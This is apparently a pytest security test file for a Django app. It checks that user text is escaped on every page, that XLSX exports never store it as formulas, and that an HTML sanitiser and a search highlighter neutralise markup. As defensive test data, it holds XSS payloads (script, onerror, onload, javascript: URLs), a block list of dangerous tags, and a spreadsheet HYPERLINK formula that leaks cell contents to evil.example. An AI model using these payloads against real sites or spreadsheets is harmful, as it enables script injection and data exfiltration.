"""User text never becomes markup or a formula (ASVS V1.2 / V3.2): a sweep over every page with hostile names.

- Every text column of one object of every kind (the scope sweep's `own_objects`) is set to markup; every page
  and htmx partial is rendered as a superuser: the markup must come out escaped, never raw. New apps' objects
  and pages are covered as the scope sweep learns them.
- The same columns set to spreadsheet formulas: every XLSX export among the pages stores them as text, never as
  formulas (CSV/formula injection). The audit CSV export is checked by the core tests.
- No user HTML is stored anywhere yet; `steerdesk.core.html.clean_html` (nh3) is the one way it will be, and its
  output holds nothing the strict CSP would block. The search highlighter, the one place that marks user text
  up, escapes everything but its own <mark>.
"""

from __future__ import annotations

import html
import io
import unicodedata

import pytest
from django.db import models
from hypothesis import given
from hypothesis import strategies as st

from steerdesk.core.html import clean_html
from steerdesk.core.models import PathField
from steerdesk.documents.search import highlight

from .sweep import concrete_urls, inline_problems

pytestmark = pytest.mark.django_db

MARKUP = '<script>alert("x")</script><img src=x onerror=alert(1)>'
SHORT_MARKUP = "<b onmouseover=x>"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Bấm")'
SHORT_FORMULA = "=1+1"
RAW_MARKERS = ("<script>alert(", "<img src=x onerror", "<b onmouseover")


def text_columns(obj):
    for f in obj._meta.concrete_fields:
        if isinstance(f, (models.CharField, models.TextField)) and not isinstance(f, PathField):
            if f.editable and not f.choices and not f.unique and not f.primary_key:
                yield f


def fill(objects, long_value: str, short_value: str) -> int:
    """Set every free-text column of every object to `long_value` (or `short_value` where it is too long)."""
    count = 0
    for obj in objects.values():
        updates = {}
        for f in text_columns(obj):
            for value in (long_value, short_value):
                if f.max_length is None or len(value) <= f.max_length:
                    updates[f.name] = value
                    break
        if updates:
            type(obj)._default_manager.filter(pk=obj.pk).update(**updates)
            count += len(updates)
    return count


def test_user_text_is_escaped_on_every_page(own_objects, users, client_for):
    assert fill(own_objects, MARKUP, SHORT_MARKUP) > 10
    client = client_for(users.superuser)
    failures, escaped_seen = [], 0
    for path, name, _ in concrete_urls(own_objects):
        if name == "accounts:logout" or path.startswith("/api/"):
            continue
        for headers in ({}, {"HX-Request": "true"}):
            response = client.get(path, headers=headers)
            if not response.get("Content-Type", "").startswith("text/html") or response.streaming:
                continue
            body = response.content.decode()
            raw = [m for m in RAW_MARKERS if m in body]
            if raw:
                failures.append(f"{path} {headers or ''}: raw {raw}")
            escaped_seen += "&lt;script&gt;alert(" in body or "&lt;b onmouseover" in body
            problems = inline_problems(body)
            if problems:
                failures.append(f"{path}: {problems}")
    assert not failures, "\n".join(failures)
    assert escaped_seen > 10, "the hostile names were shown escaped on too few pages: did the sweep see them?"


def test_user_text_is_never_a_formula_in_xlsx_exports(own_objects, users, client_for):
    import openpyxl

    fill(own_objects, FORMULA, SHORT_FORMULA)
    client = client_for(users.superuser)
    exports, failures = 0, []
    for path, name, _ in concrete_urls(own_objects):
        if name == "accounts:logout":
            continue
        response = client.get(path)
        if "spreadsheetml" not in response.get("Content-Type", ""):
            continue
        content = b"".join(response.streaming_content) if response.streaming else response.content
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        exports += 1
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f" and (
                        "evil.example" in str(cell.value) or cell.value == SHORT_FORMULA
                    ):
                        failures.append(f"{path} {sheet.title}!{cell.coordinate}: {cell.value!r}")
    assert not failures, "user text exported as a formula:\n" + "\n".join(failures)
    assert exports >= 1


def test_xlsx_exports_survive_control_characters_in_user_text(own_objects, users, client_for):
    """Text pasted from other programs carries characters XLSX cannot hold: the export leaves them out."""
    fill(own_objects, "Báo cáo\x01\x0b quý\x1f I", "a\x02b")
    client = client_for(users.superuser)
    exports = 0
    for path, name, _ in concrete_urls(own_objects):
        if name == "accounts:logout" or not (path.endswith(".xlsx") or "xlsx" in (name or "")):
            continue
        response = client.get(path)
        assert response.status_code < 500, f"{path} → {response.status_code}"
        exports += "spreadsheetml" in response.get("Content-Type", "")
    assert exports >= 1


# -- the HTML sanitiser ---------------------------------------------------------------------------------------

html_like = st.lists(
    st.sampled_from(
        [
            "<p>", "</p>", "<b>", "</b>", "<a href='", "javascript:alert(1)", "https://ubnd.vn/", "'>", "</a>",
            "<script>", "</script>", "alert(1)", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
            "<style>", "</style>", " style='color:red'", "<td colspan=2 onclick=x>", "<!--", "-->", "<iframe ",
            "srcdoc='<script>x</script>'>", "&lt;", "&#x3C;script&#x3E;", "Hòa Bình", "Đảng ủy", " ", "\n", "<",
            ">", '"', "'", "=", "<math><mi xlink:href='javascript:x'>", "data:text/html,<script>x</script>",
            "<base href='//evil.example/'>", "<form action='//evil.example'>", "<meta http-equiv=refresh>",
        ]
    ),
    max_size=25,
).map("".join)  # fmt: skip


@given(html_like)
def test_cleaned_html_holds_nothing_that_runs(value):
    cleaned = clean_html(value)
    assert inline_problems(cleaned) == [], cleaned
    lowered = cleaned.lower()
    for bad in (
        "<script",
        "<style",
        "<iframe",
        "<svg",
        "<base",
        "<form",
        "<meta",
        "<img",
        "<math",
    ):
        assert bad not in lowered, (bad, cleaned)
    assert clean_html(cleaned) == cleaned  # stable: cleaning twice changes nothing


def test_cleaned_html_keeps_structure_links_and_vietnamese():
    source = (
        "<h2>Kế hoạch</h2><p>Thực hiện <strong>Nghị quyết số 35-NQ/TW</strong>, xem "
        '<a href="https://tulieuvankien.dangcongsan.vn/" onclick="x()">văn bản</a>.</p>'
        '<table><tr><td colspan="2" style="color:red">Hòa Bình</td></tr></table>'
    )
    cleaned = clean_html(source)
    assert "<h2>Kế hoạch</h2>" in cleaned and "<strong>Nghị quyết số 35-NQ/TW</strong>" in cleaned
    assert (
        'href="https://tulieuvankien.dangcongsan.vn/"' in cleaned
        and 'rel="noopener noreferrer nofollow"' in cleaned
    )
    assert 'colspan="2"' in cleaned and "style" not in cleaned and "onclick" not in cleaned


# -- the search highlighter --------------------------------------------------------------------------------

hostile_text = st.lists(
    st.sampled_from(list("<>&\"' abcHòaBìnhĐảng/=;") + ["<script>", "&amp;"]), max_size=40
).map("".join)


@given(hostile_text, st.lists(st.sampled_from(["hoa", "binh", "dang", "script", "amp", "lt"]), max_size=3))
def test_search_highlights_escape_everything_but_their_marks(text, terms):
    marked = str(highlight(text, terms))
    unmarked = marked.replace("<mark>", "").replace("</mark>", "")
    assert "<" not in unmarked and ">" not in unmarked
    assert html.unescape(unmarked) == unicodedata.normalize("NFC", text)
